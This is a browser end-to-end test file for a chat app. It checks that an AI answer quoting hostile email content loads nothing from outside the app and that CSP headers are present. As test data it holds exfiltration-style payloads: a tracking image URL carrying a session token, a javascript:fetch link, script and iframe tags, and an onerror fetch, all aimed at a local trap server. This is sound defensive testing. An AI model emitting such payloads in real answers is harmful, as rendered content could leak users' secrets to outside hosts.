/**
 * An answer quoting hostile email content (remote images, javascript: links,
 * script and iframe tags, raw URLs) loads nothing from outside the app in
 * Chromium, the app itself works under its Content-Security-Policy, and the
 * response headers carry that policy.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createDemoDatabase, DEMO, type DemoDatabase } from '../helpers/demo.ts';
import { ScriptedChatModel } from '../helpers/scriptedModel.ts';
import type { TestServer } from '../helpers/server.ts';
import { startAppServer } from './support/appServer.ts';
import { ask, chromiumPath, launchBrowser, lastTurn, newContext, signIn } from './support/browser.ts';

describe.skipIf(!chromiumPath)('hostile content in an answer', () => {
  let database: DemoDatabase;
  let app: TestServer;
  let browser: Browser;
  let page: Page;
  let trap: http.Server;
  let trapUrl = '';
  const trapHits: string[] = [];
  const requests: string[] = [];
  const cspViolations: string[] = [];
  let documentHeaders: Record<string, string> = {};

  beforeAll(async () => {
    // Anything that reaches this server was fetched from outside the app.
    trap = http.createServer((req, res) => {
      trapHits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'image/png' }).end();
    });
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
    trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
    const hostile = [
      'Here is what the email says:',
      '',
      `![tracking pixel](${trapUrl}/pixel.png?secret=session-token)`,
      '',
      `[Open the invoice](javascript:fetch('${trapUrl}/js-link'))`,
      '',
      `<script src="${trapUrl}/script.js"></script>`,
      `<img src="${trapUrl}/inline.png" onerror="fetch('${trapUrl}/onerror')">`,
      `<iframe src="${trapUrl}/frame"></iframe>`,
      '',
      `Raw link: ${trapUrl}/raw-url and <${trapUrl}/autolink>`,
    ].join('\n');
    const model = new ScriptedChatModel([], { whenExhausted: { text: hostile } });
    database = await createDemoDatabase();
    app = await startAppServer(database.db, { chatModel: model });
    browser = await launchBrowser();
    const context = await newContext(browser);
    page = await context.newPage();
    page.on('request', (r) => requests.push(r.url()));
    page.on('console', (m) => {
      if (/Content Security Policy/i.test(m.text())) cspViolations.push(m.text());
    });
    page.on('response', (r) => {
      if (r.request().resourceType() === 'document') documentHeaders = r.headers();
    });
    await signIn(page, app.url, DEMO.email, DEMO.password);
  });

  afterAll(async () => {
    await browser?.close();
    await app?.close();
    await database?.drop();
    await new Promise((resolve) => trap?.close(resolve));
  });

  test('loads nothing from outside the app; the image is a click-to-load link; the page carries the CSP', async () => {
    await ask(page, 'What does the newsletter say?');
    const turn = lastTurn(page, 'completed');
    await turn.waitFor({ timeout: 30_000 });
    await page.waitForTimeout(500);

    const answer = turn.locator('.answer').last();
    // The image is a link the user may choose to open, not an <img>.
    const imageLink = answer.locator('a.md-image-link');
    expect(await imageLink.count()).toBe(1);
    expect(await imageLink.innerText()).toContain('click to load');
    expect(await imageLink.getAttribute('rel')).toContain('noreferrer');
    expect(await answer.locator('img, script, iframe').count()).toBe(0);
    // The javascript: link lost its URL; raw URLs are plain links, never fetched.
    const hrefs = await answer.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? ''));
    expect(hrefs.some((h) => h.startsWith('javascript:'))).toBe(false);
    expect(hrefs).toContain(`${trapUrl}/raw-url`);

    expect(trapHits).toEqual([]);
    const origin = new URL(app.url).origin;
    const outside = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith(origin.replace('http', 'ws')));
    expect(outside).toEqual([]);

    // The built app (module scripts, stylesheets, Socket.IO) runs under the policy without violations.
    expect(cspViolations).toEqual([]);
    const csp = documentHeaders['content-security-policy'] ?? '';
    expect(csp).toContain("img-src 'self' data:");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(documentHeaders['x-frame-options']).toBe('DENY');
    expect(documentHeaders['x-content-type-options']).toBe('nosniff');
    expect(documentHeaders['referrer-policy']).toBe('no-referrer');
  });
});
